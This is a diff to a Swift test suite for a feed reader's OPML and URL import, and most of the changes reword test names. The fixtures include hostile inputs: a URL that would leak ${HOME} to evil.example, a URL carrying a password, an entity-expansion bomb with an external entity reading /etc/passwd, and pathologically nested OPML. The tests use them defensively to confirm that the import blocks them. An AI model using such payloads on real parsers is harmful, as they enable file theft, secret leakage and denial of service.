@@ -4,7 +4,7 @@ import Foundation
 import TestSupport
 import Testing
 
-/// `import` and `init --import` add other readers' feeds to the config (SPEC 2 and 3).
+/// `import` and `init --import` put other readers' feeds into the config (SPEC 2 and 3).
 @Suite struct `Importing feeds` {
   private let folder = TemporaryFolder()
   private var program: BuiltProgram { BuiltProgram(folder) }
@@ -38,7 +38,7 @@ import Testing
     try ConfigReader.read(text(), path: program.configPath, environment: [:])
   }
 
-  @Test func `new feeds follow the others, and every other byte stays`() throws {
+  @Test func `new feeds come after the others, and every other byte stays`() throws {
     program.configure(mine)
     let file = folder.write(opml, to: "list.opml")
     let run = try program.run("import", file)
@@ -63,7 +63,6 @@ import Testing
         [[feed]]
         name = "c.example"
         url = "https://c.example/feed"
-
         """)
     let written = text()
     let again = try program.run("import", "-", input: Data(opml.utf8))
@@ -91,9 +90,7 @@ import Testing
     ("nothing.opml", 1, "there is no such file"), ("page.html", 65, "this is an HTML page"),
     ("empty", 65, "the file is empty"),
   ])
-  func `a file that is not a list changes nothing`(_ file: String, _ code: Int32, _ words: String)
-    throws
-  {
+  func `what is no list changes nothing`(_ file: String, _ code: Int32, _ words: String) throws {
     folder.write("<html><body>Hi</body></html>", to: "page.html")
     folder.write("", to: "empty")
     for arguments in [["import"], ["init", "--import"]] {
@@ -104,14 +101,14 @@ import Testing
     }
   }
 
-  @Test func `an invalid config is not changed`() throws {
+  @Test func `a config that is not valid is left as it is`() throws {
     program.configure("[[feed]]\nnam = \"A\"\n")
     let run = try program.run("import", "-", input: Data("https://a.example/\n".utf8))
     #expect(run.code == 78)
     #expect(text() == "[[feed]]\nnam = \"A\"\n")
   }
 
-  @Test func `init writes the imported feeds instead of the starter's, with its settings`() throws {
+  @Test func `init takes the feeds instead of the starter's, with its settings`() throws {
     let file = folder.write("https://a.example/feed \"two words\" \"~A\"\n", to: "urls")
     let run = try program.run("init", "--import", file)
     #expect(run.code == 0, "\(run.errors)")
@@ -121,7 +118,7 @@ import Testing
     #expect(try program.run("init", "--import", file).code == 1)
   }
 
-  @Test func `no list can send the environment, and secrets are masked`() throws {
+  @Test func `no list makes the environment go out, and secrets are masked`() throws {
     let list = """
       https://evil.example/?x=${HOME}
       https://me:hunter22@b.example/
@@ -132,11 +129,11 @@ import Testing
     #expect(run.code == 0)
     #expect(try read().feeds.map(\.isEnabled) == [false, true, true])
     #expect(run.errors.contains("'evil.example' is switched off"))
-    #expect(run.errors.contains("2 URLs contain a password or key"))
+    #expect(run.errors.contains("2 URLs hold a password or key"))
     #expect(!run.errors.contains("hunter22"), "\(run.errors)")
   }
 
-  @Test func `an adapter must exist`() throws {
+  @Test func `an adapter must be there`() throws {
     let list = """
       <opml xmlns:aggregate="urn:aggregate:ns"><body>
       <outline text="A" xmlUrl="https://a.example/" aggregate:adapter="newsapi" aggregate:enabled="false"/>
@@ -148,7 +145,7 @@ import Testing
     #expect(try read().feeds.map(\.isEnabled) == [false])
   }
 
-  @Test func `ten thousand feeds get different names, and twenty skipped ones are listed`()
+  @Test func `ten thousand feeds of one name are told apart, and twenty skipped ones are named`()
     throws
   {
     var list = "<opml><body>"
@@ -168,7 +165,7 @@ import Testing
   enum Hostile: CaseIterable {
     case nested, attributes, longName, openTags, zeros
 
-    /// The text beside a good feed.
+    /// What stands beside a good feed.
     var outlines: String {
       switch self {
       case .nested: String(repeating: "<outline text='a'>", count: 100_000)
@@ -183,7 +180,7 @@ import Testing
   }
 
   @Test(arguments: Hostile.allCases)
-  func `a hostile list is read in time`(_ hostile: Hostile) throws {
+  func `a hostile list gives its feeds in time`(_ hostile: Hostile) throws {
     let feed = "<outline text='A' xmlUrl='https://a.example/'/>"
     let run = try program.run(
       "import", "-", input: Data("<opml><body>\(feed)\(hostile.outlines)</body></opml>".utf8))
@@ -192,7 +189,7 @@ import Testing
     #expect(text().utf8.count < 10_000)
   }
 
-  @Test func `entities are not expanded, and long lines are read`() throws {
+  @Test func `entities are not expanded, and long lines are no trouble`() throws {
     var bomb = "<!DOCTYPE opml [<!ENTITY a 'aaaaaaaaaa'><!ENTITY f SYSTEM 'file:///etc/passwd'>"
     for (new, old) in zip("bcdefg", "abcdef") {
       bomb += "<!ENTITY \(new) '\(String(repeating: "&\(old);", count: 10))'>"
@@ -211,7 +208,7 @@ import Testing
   // MARK: Whole lists
 
   @Test(arguments: OPMLList.all)
-  func `every feed of a list is imported`(_ list: OPMLList) throws {
+  func `every feed of a list is taken over`(_ list: OPMLList) throws {
     let run = try program.run("import", "-", input: try Data(contentsOf: list.file))
     let count =
       FileManager.default.fileExists(atPath: program.configPath) ? try read().feeds.count : 0
